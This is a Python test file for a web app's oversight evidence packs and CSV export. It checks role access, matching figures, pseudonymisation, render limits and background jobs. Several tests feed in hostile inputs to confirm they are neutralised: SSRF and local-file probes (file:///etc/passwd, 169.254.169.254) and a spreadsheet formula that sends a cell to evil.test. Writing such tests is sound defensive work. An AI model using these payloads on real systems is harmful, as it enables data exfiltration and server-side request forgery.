"""Oversight evidence packs and the CSV export: sections, the dashboard's numbers, privacy, safety."""

import csv
import io
import mmap
import re
import subprocess
import sys
import zipfile
from datetime import date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from pypdf import PdfReader
from sqlalchemy import select

from app.core.dates import monday
from app.core.pdf import PdfRenderError, render_pdf
from app.core.roles import Role
from app.dashboard.queries import Scope
from app.extensions import db
from tests.factories import csrf_from_page, login

TZ = ZoneInfo("America/New_York")
NOW = datetime(2026, 6, 17, 14, tzinfo=TZ)  # the clock is pinned here for every test of this file
LAST_WEEK = monday(NOW.date()) - timedelta(weeks=1)  # the organisation's week, not the machine's
FIRST_WEEK = LAST_WEEK - timedelta(weeks=11)
PERIOD = f"from={FIRST_WEEK}&to={LAST_WEEK + timedelta(days=6)}"


@pytest.fixture(autouse=True)
def pinned_clock():
    with time_machine.travel(NOW, tick=True):
        yield


def at(day: date) -> str:
    return datetime.combine(day, time(11), tzinfo=TZ).isoformat()


@pytest.fixture
def org(app, make):
    make.user("dsp@x.test", regions=["North"])
    make.user("sup@x.test", roles=[Role.SUPERVISOR], regions=["North"])
    make.user("manager@x.test", roles=[Role.MANAGER], regions=[])
    make.user("quality@x.test", roles=[Role.QUALITY_LEAD], regions=[])
    for weeks_back in range(12):
        for n in range(2 + weeks_back % 3):
            make.report(
                "dsp@x.test",
                category="falls_mobility",
                occurred_at=at(LAST_WEEK - timedelta(weeks=weeks_back) + timedelta(days=n)),
            )
    for day in range(3):
        make.report(
            "dsp@x.test",
            category="medication",
            person_ref="Jane Doe 1942",
            occurred_at=at(LAST_WEEK + timedelta(days=day)),
        )
    return make


def as_user(app, email):
    client = app.test_client()
    login(client, email)
    return client


def pdf_text(response) -> tuple[PdfReader, str]:
    assert response.status_code == 200, response.get_data(as_text=True)[:400]
    reader = PdfReader(io.BytesIO(response.data))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


def test_only_managers_and_the_quality_lead_get_packs(app, org):
    assert as_user(app, "dsp@x.test").get(f"/packs/oversight.pdf?{PERIOD}").status_code == 403
    assert as_user(app, "sup@x.test").get(f"/packs/oversight.zip?{PERIOD}").status_code == 403


@pytest.mark.parametrize(
    "query",
    [
        "from=soon",
        "from=2026-05-01&to=2026-04-01",
        "region=north",
        "region=99999",
        "from=2001-01-01&to=2026-01-01",
    ],
)
def test_bad_parameters_are_clear_4xx(app, org, query):
    assert as_user(app, "manager@x.test").get(f"/packs/oversight.pdf?{query}").status_code in (400, 404)


def test_pack_sections_and_numbers_equal_the_dashboard(app, org):
    quality = as_user(app, "quality@x.test")
    token = csrf_from_page(quality, "/dashboard")
    quality.post("/dashboard/clusters/detect", data={"csrf_token": token, "week": str(LAST_WEEK)})
    _, text = pdf_text(as_user(app, "manager@x.test").get(f"/packs/oversight.pdf?{PERIOD}"))
    flat = " ".join(text.split())
    for section in (
        "Summary and KPIs against targets",
        "Trends and control charts",
        "Clusters detected",
        "Action register",
        "Timeliness and escalation",
        "External reports made",
        "Feedback published",
        "Method and definitions",
        "Audit integrity",
        "was verified when this pack was generated",
    ):
        assert section in flat, section
    assert "Generated" in flat and "by Manager" in flat

    with app.app_context():
        from app.auth.models import User
        from app.core.clock import org_today
        from app.core.models import now_utc
        from app.dashboard import overview

        manager = db.session.scalar(select(User).where(User.email == "manager@x.test"))
        board = overview.build(
            Scope(FIRST_WEEK, LAST_WEEK, None), manager, tz=TZ, today=org_today(), now=now_utc()
        )
        # The board reads each part when first asked, inside the app's context.
        labels, counts, triage = board.labels, board.counts, board.timeliness[0]
    assert f"Near misses reported {sum(counts)}" in flat
    for label, count in zip(labels, counts, strict=True):
        assert re.search(rf"{re.escape(label)} {count}\b", flat), (label, count)
    assert re.search(rf"Triaged within target \S+ {sum(triage.met)} / {sum(triage.total)}", flat)


def test_person_references_are_pseudonymised_and_small_counts_suppressed(app, org):
    quality = as_user(app, "quality@x.test")
    token = csrf_from_page(quality, "/dashboard")
    quality.post("/dashboard/clusters/detect", data={"csrf_token": token, "week": str(LAST_WEEK)})
    _, text = pdf_text(quality.get(f"/packs/oversight.pdf?{PERIOD}"))
    flat = " ".join(text.split())
    assert "Jane Doe" not in flat and "jane" not in flat.lower()
    assert re.search(r"P-[0-9A-F]{10}", flat)
    assert "Medication <5" in flat  # 3 medication reports: suppressed in the breakdown


def test_hostile_user_text_prints_as_text_and_fetches_nothing(app, org):
    from app.actions.measure import MeasureFilter
    from app.actions.models import Action

    hostile = (
        '<link rel="attachment" href="file:///etc/passwd"><img src="http://169.254.169.254/">'
        '<img src="file:///dev/urandom"><b style="font-size:999999px">x</b>'
    )
    with app.app_context():
        action = Action(
            title=hostile[:200],
            change="x",
            owner_id=1,
            due_date=LAST_WEEK,
            strength="weak",
            window_start=LAST_WEEK,
            window_end=LAST_WEEK + timedelta(days=28),
            measure=MeasureFilter(category_ids=(1,)).to_json(),
            target_reduction_percent=50,
            created_by_id=1,
            created_at=datetime.combine(FIRST_WEEK, time(), tzinfo=TZ),
        )
        db.session.add(action)
        db.session.commit()
    reader, text = pdf_text(as_user(app, "manager@x.test").get(f"/packs/oversight.pdf?{PERIOD}"))
    assert "root:x:0:0" not in text
    assert "file:///etc/passwd" in "".join(text.split())
    assert not reader.attachments


def test_the_renderer_refuses_every_outside_resource():
    html = (
        '<link rel="attachment" href="file:///etc/passwd"><link rel="stylesheet" href="http://169.254.169.254/x.css">'
        '<img src="file:///dev/urandom"><img src="http://169.254.169.254/">'
        '<img src="/static/icons/icon-192.png">'
    )
    rendered = render_pdf(html, timeout=60)
    assert sorted(rendered.refused) == sorted(
        [
            "file:///etc/passwd",
            "http://169.254.169.254/x.css",
            "file:///dev/urandom",
            "http://169.254.169.254/",
        ]
    )
    reader = PdfReader(io.BytesIO(rendered.data))
    assert not reader.attachments
    assert "root:x" not in "".join(page.extract_text() for page in reader.pages)


def test_huge_css_values_end_cleanly():
    """User text is always escaped, so this HTML cannot come from a user; the renderer still copes."""
    html = '<p style="width: 999999999px; font-size: 9999999px; margin: 99999999px">big</p>' * 50
    try:
        render_pdf(html, timeout=20)
    except PdfRenderError as exc:
        assert "could not be rendered" in str(exc) or "longer than" in str(exc)


def test_rendering_stops_at_its_time_limit():
    html = "<table>" + "<tr><td>cell</td></tr>" * 60000 + "</table>"
    with pytest.raises(PdfRenderError, match=r"longer than 0\.5 seconds"):
        render_pdf(html, timeout=0.5)


def test_rendering_stops_at_its_memory_limit():
    """A document that needs more memory than rendering may add is stopped, by a renderer that starts
    warm (the server has imported WeasyPrint and set up its fonts before it forks). Run from a server
    that has just started (a fresh interpreter): a long-running process may hold freed memory that a
    forked render reuses without adding any, which would make this test depend on what ran before. So
    the document needs more than the whole allowance in one piece: parsing a 48 MB word copies it,
    against 32 MB."""
    script = (
        "from app.core.pdf import PdfRenderError, render_pdf, warm_up\n"
        "warm_up()\n"
        "try:\n"
        "    render_pdf('<p>' + 'x' * (48 * 1024 * 1024) + '</p>', memory_bytes=32 * 1024 * 1024)\n"
        "except PdfRenderError as error:\n"
        "    print('refused:', error)\n"
        "else:\n"
        "    print('rendered')\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True
    )
    assert re.search(r"refused: .*(memory|could not be rendered)", result.stdout), result.stdout


def test_the_memory_limit_counts_what_rendering_adds_not_what_the_server_holds():
    """A server that has loaded more since it started (the text-similarity model, its thread arenas)
    still renders: the fence is on the rendering's own memory. Reserved here: 2 GiB of address space,
    more than the whole default limit."""
    reserved = mmap.mmap(-1, 2 * 1024**3)
    try:
        assert render_pdf("<p>A one-page document.</p>").pages == 1
    finally:
        reserved.close()


def test_csv_export_of_the_same_scope(app, org):
    response = as_user(app, "manager@x.test").get(f"/packs/oversight.zip?{PERIOD}")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == [
        "actions.csv",
        "reports.csv",
        "triage_decisions.csv",
        "verifications.csv",
    ]
    rows = list(csv.DictReader(io.StringIO(archive.read("reports.csv").decode())))
    with app.app_context():
        from app.dashboard.queries import weekly_counts

        assert len(rows) == sum(weekly_counts(Scope(FIRST_WEEK, LAST_WEEK, None), TZ))
    assert "what_happened" not in rows[0] and all("Jane" not in r["person_pseudonym"] for r in rows)
    assert any(r["person_pseudonym"].startswith("P-") for r in rows)


def test_csv_export_writes_formulas_as_text(app, org):
    """A title, a person's name or a region name that a spreadsheet would run as a formula is
    written with a quote in front; numbers stay numbers."""
    from app.actions.measure import MeasureFilter
    from app.actions.models import Action
    from app.auth.models import User
    from app.taxonomy.models import Region

    title = '=HYPERLINK("http://evil.test/?d="&B2,"Open")'
    with app.app_context():
        owner = db.session.scalar(select(User).where(User.email == "sup@x.test"))
        owner.name = "@SUM(1)"
        db.session.scalar(select(Region).where(Region.name == "North")).name = "+North"
        db.session.add(
            Action(
                title=title,
                change="x",
                owner_id=owner.id,
                due_date=LAST_WEEK,
                strength="weak",
                window_start=LAST_WEEK,
                window_end=LAST_WEEK + timedelta(days=28),
                measure=MeasureFilter(category_ids=(1,)).to_json(),
                target_reduction_percent=50,
                baseline_count=-1,
                created_by_id=owner.id,
            )
        )
        db.session.commit()
    response = as_user(app, "manager@x.test").get(f"/packs/oversight.zip?{PERIOD}")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    (action,) = csv.DictReader(io.StringIO(archive.read("actions.csv").decode()))
    assert action["title"] == "'" + title
    assert action["owner"] == "'@SUM(1)"
    assert action["baseline_count"] == "-1" and action["target_reduction_percent"] == "50.0"
    reports = list(csv.DictReader(io.StringIO(archive.read("reports.csv").decode())))
    assert reports and {r["region"] for r in reports} == {"'+North"}
    for name in archive.namelist():
        cells = [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name


def test_a_pack_drawn_in_the_background_is_collected_by_whoever_asked(app, org):
    from app.packs.models import PackRender

    quality = as_user(app, "quality@x.test")
    token = csrf_from_page(quality, "/packs")
    response = quality.post(
        "/packs/oversight/render",
        data={"csrf_token": token, "from": str(FIRST_WEEK), "to": str(LAST_WEEK + timedelta(days=6))},
    )
    assert response.status_code == 302
    status_url = response.headers["Location"]
    page = quality.get(status_url).get_data(as_text=True)
    assert "Ready" in page, "without a job queue the pack is drawn at once"
    download = quality.get(status_url + ".pdf")
    reader, text = pdf_text(download)
    assert "oversight evidence pack" in text and len(reader.pages) >= 2
    assert "Jane Doe" not in text
    assert "Your recent packs" in quality.get("/packs").get_data(as_text=True)

    manager = as_user(app, "manager@x.test")
    assert manager.get(status_url).status_code == 404, "a pack is for the person who asked"
    assert manager.get(status_url + ".pdf").status_code == 404
    assert as_user(app, "dsp@x.test").get(status_url).status_code == 403
    with app.app_context():
        from app.core.audit.models import AuditEvent

        render = db.session.scalar(select(PackRender))
        assert render.status == "done" and render.pages == len(reader.pages)
        downloads = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "pack.download")).all()
        assert len(downloads) == 1 and '"render_id"' in downloads[0].after


def test_a_background_pack_with_a_bad_period_is_a_400(app, org):
    quality = as_user(app, "quality@x.test")
    token = csrf_from_page(quality, "/packs")
    response = quality.post("/packs/oversight/render", data={"csrf_token": token, "from": "2026-13-40"})
    assert response.status_code == 400
    assert quality.post("/packs/oversight/render", data={"from": str(FIRST_WEEK)}).status_code == 400


def test_a_background_pack_that_breaks_says_so_instead_of_waiting_forever(app, org, monkeypatch):
    from app.packs import rendering
    from app.packs.models import PackRender

    def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr(rendering, "render_pack_pdf", broken)
    quality = as_user(app, "quality@x.test")
    token = csrf_from_page(quality, "/packs")
    status_url = quality.post("/packs/oversight/render", data={"csrf_token": token}).headers["Location"]
    page = quality.get(status_url).get_data(as_text=True)
    assert "could not be drawn" in page and "http-equiv" not in page
    with app.app_context():
        from app.core.audit.models import AuditEvent

        assert db.session.scalar(select(PackRender.status)) == "failed"
        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "job.failed"))


def _queued_render(app, email: str) -> int:
    from app.auth.models import User
    from app.packs.models import PackRender

    with app.app_context():
        requester = db.session.scalar(select(User).where(User.email == email))
        render = PackRender(
            requested_by_id=requester.id,
            first_week=FIRST_WEEK,
            last_week=LAST_WEEK,
            region_name="All regions",
            status="queued",
        )
        db.session.add(render)
        db.session.commit()
        return render.id


def _run_render(app, render_id: int) -> tuple[str, str, bytes | None]:
    """Run the background job in an application context of its own, as the worker does."""
    from app.packs.models import PackRender
    from app.packs.rendering import render_pack

    with app.app_context():
        outcome = render_pack(render_id)
        render = db.session.get(PackRender, render_id)
        return outcome, render.status, render.pdf


def test_a_pack_is_not_drawn_for_someone_who_lost_the_role_meanwhile(app, org):
    """The quality lead asks, then an administrator takes the role away (the account stays active,
    with another role): the queued render draws nothing."""
    from app.auth.models import User
    from app.auth.operations import update_user

    render_id = _queued_render(app, "quality@x.test")
    with app.app_context():
        quality = db.session.scalar(select(User).where(User.email == "quality@x.test"))
        update_user(
            quality, name=quality.name, roles=[Role.SUPERVISOR], regions=quality.regions, actor=quality
        )
        db.session.commit()
        assert quality.active
    assert _run_render(app, render_id) == ("refused", "failed", None)


def test_a_pack_is_not_drawn_for_someone_deactivated_meanwhile(app, org):
    from app.auth.models import User

    render_id = _queued_render(app, "quality@x.test")
    with app.app_context():
        db.session.scalar(select(User).where(User.email == "quality@x.test")).active = False
        db.session.commit()
    assert _run_render(app, render_id) == ("refused", "failed", None)


def test_the_csv_export_is_named_for_the_organisations_day(app, org):
    """At 01:30 UTC on a Monday it is still Sunday in New York: the file is named for Sunday."""
    import time_machine

    with time_machine.travel(datetime(2026, 11, 30, 1, 30, tzinfo=ZoneInfo("UTC")), tick=True):
        response = as_user(app, "manager@x.test").get("/packs/oversight.zip?from=2026-09-07&to=2026-11-29")
    assert response.headers["Content-Disposition"] == 'attachment; filename="oversight-20261129.zip"'
